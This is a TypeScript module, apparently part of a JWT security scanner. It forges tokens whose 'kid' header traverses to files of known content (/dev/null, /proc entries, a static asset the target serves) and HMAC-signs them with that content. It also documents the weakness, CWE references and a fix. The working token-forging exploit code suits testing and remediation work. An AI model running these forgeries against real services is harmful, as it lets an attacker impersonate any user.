import type { BaseContext } from '../../attack.ts'
import { fetchPath } from '../../kit/fetch-path.ts'
import { assembleWithHmac, readToken } from '../../kit/forge-token.ts'
import { blankKey, unknownKid } from '../../kit/plainer-keys.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

/** Files whose content is known on every Linux: the key that the token is then signed with. */
const files: readonly [path: string, content: string][] = [
  ['/dev/null', ''],
  ['/proc/sys/kernel/randomize_va_space', '2\n'],
  ['/proc/sys/kernel/ostype', 'Linux\n'],
]

/** Where servers keep the files that they serve, seen from where they were started. */
const folders = ['', 'public/', 'static/', 'dist/', 'build/', 'client/', 'web/', 'server/', 'server/public/']

const prefixes = ['', '../../../../../../../..', 'keys/../../../../../../../..']

export default tokenAttack({
  id: 'token/key-kid-traversal-null',
  rows: ['token.key-kid.traversal-null', 'token.key-kid.traversal-known'],
  title: 'A kid that leads to a file of known content, and a signature made with that content',
  requirement: 'RFC 8725 section 3.10: kid and other received values are validated before they are used',
  impact: 'The attacker chooses the key: anyone becomes any user, and files can be probed.',
  remedy: 'Look keys up in a Map by kid; never build a path from it.',
  severity: 'critical',
  cwe: ['CWE-22', 'CWE-347'],
  references: ['RFC 8725 section 3.10', 'WSTG-SESS-10'],
  provenBy: 'kid-file',
  plainer: ({ victim }) => [...blankKey(victim.token), ...unknownKid(victim.token)],
  async forge(context) {
    const { header, payload } = readToken(context.victim.token)
    const served = await context.once('served-file', () => servedFile(context))
    const known = files.flatMap(([path, content]) => prefixes.map((prefix) => [`${prefix}${path}`, content] as const))
    const own = folders.map(
      (folder) => [`${prefixes[1]}/proc/self/cwd/${folder}${served?.path}`, served?.content] as const,
    )
    return [...known, ...(served === undefined ? [] : own)].map(([kid, content = '']) => ({
      name: `kid ${kid}`,
      token: assembleWithHmac({ ...header, alg: 'HS256', kid }, payload, content),
    }))
  },
})

/** A file that the target serves to everybody: the first that its page names, with its path as it is asked for. */
async function servedFile(context: BaseContext): Promise<{ path: string; content: Buffer } | undefined> {
  const page = await fetchPath(context, '/')
  const path = /(?:src|href)="\/?((?:\w[\w-]*\/)*[\w.-]+\.(?:css|js))"/.exec(page.body.toString())?.[1]
  if (path === undefined) return undefined
  const file = await fetchPath(context, `/${path}`)
  return file.status === 200 ? { path, content: Buffer.from(file.body) } : undefined
}
